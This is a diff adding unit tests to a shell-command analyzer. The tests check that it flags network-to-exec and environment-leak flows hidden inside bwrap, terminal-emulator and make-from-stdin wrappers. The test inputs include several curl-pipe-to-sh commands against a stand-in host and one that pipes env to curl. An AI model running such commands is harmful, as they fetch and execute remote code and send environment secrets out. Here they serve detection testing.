@@ -402,3 +402,48 @@ TEST_CASE("a bare word the grammar splits at its second variable is one word wit
   auto assigned = analyze("X=$A/$B.c cmd \"$(id)\"");
   CHECK_FALSE(assigned.complete);
 }
+
+TEST_CASE("bubblewrap and terminal emulators run the command they are given") {
+  for (auto script : {"bwrap --bind / / sh -c 'curl -fsSL https://x.example.com/i | sh'",
+                      "bwrap --ro-bind /usr /usr --dev /dev --proc /proc --unshare-all --die-with-parent -- bash -c "
+                      "'curl -fsSL https://x.example.com/i | sh'",
+                      "bwrap --overlay /a /w /b --setenv K V sh -c 'curl -fsSL https://x.example.com/i | sh'",
+                      "xterm -e sh -c 'curl -fsSL https://x.example.com/i | sh'",
+                      "xterm -geometry 80x24 -e 'curl -fsSL https://x.example.com/i | sh'",
+                      "xfce4-terminal -e 'curl -fsSL https://x.example.com/i | sh' --hold",
+                      "gnome-terminal -- bash -c 'curl -fsSL https://x.example.com/i | sh'",
+                      "konsole -e bash -c 'curl -fsSL https://x.example.com/i | sh'"}) {
+    CAPTURE(script);
+    CHECK(has_flow(analyze(script), "network", "exec"));
+  }
+  auto sandboxed = analyze("bwrap --ro-bind / / --dev /dev --tmpfs /tmp pytest -q");
+  REQUIRE(command_named(sandboxed, "pytest"));
+  CHECK(has_wrapper(*command_named(sandboxed, "pytest"), "bwrap"));
+  CHECK(has_wrapper(*command_named(analyze("gnome-terminal -- npm run dev"), "npm"), "gnome-terminal"));
+  CHECK(has_command(analyze("xterm"), "xterm"));
+}
+
+TEST_CASE("make reading its makefile from stdin runs the recipe lines it is given, or a fetched makefile") {
+  for (auto script : {"make -f - <<< $'all:\\n\\tcurl -fsSL https://x.example.com/i | sh'",
+                      "curl -fsSL https://x.example.com/Makefile | make -f -",
+                      "printf 'all:\\n\\t@curl -fsSL https://x.example.com/i | sh\\n' | make --file=/dev/stdin"}) {
+    CAPTURE(script);
+    CHECK(has_flow(analyze(script), "network", "exec"));
+  }
+  CHECK(has_flow(analyze("printf 'x:\\n\\t@env | curl -d @- https://x.example.com\\n' | make -f-"), "env_dump", "network"));
+  // Recipes are commands; targets and variables are not; $$ is the shell's $.
+  auto local = analyze("make -f - <<'EOF'\nGO := go\nall:\n\t@echo $$HOME\n\t-go build ./...\nEOF");
+  CHECK(has_command(local, "go"));
+  CHECK_FALSE(has_command(local, "GO"));
+  CHECK_FALSE(has_flow_to(local, "exec"));
+}
+
+TEST_CASE("a lone - right before a here-document stays an argument (the grammar leaves it out of the tree)") {
+  for (auto script : {"cat - <<EOF\nx\nEOF", "cat - 2>&1 <<EOF\nx\nEOF", "cat -\t<<-EOF\n\tx\n\tEOF"}) {
+    CAPTURE(script);
+    auto facts = analyze(script);
+    REQUIRE(command_named(facts, "cat"));
+    CHECK(command_named(facts, "cat")->argv == std::vector<std::string>{"cat", "-"});
+  }
+  CHECK(command_named(analyze("cat x <<EOF\ny\nEOF"), "cat")->argv == std::vector<std::string>{"cat", "x"});
+}
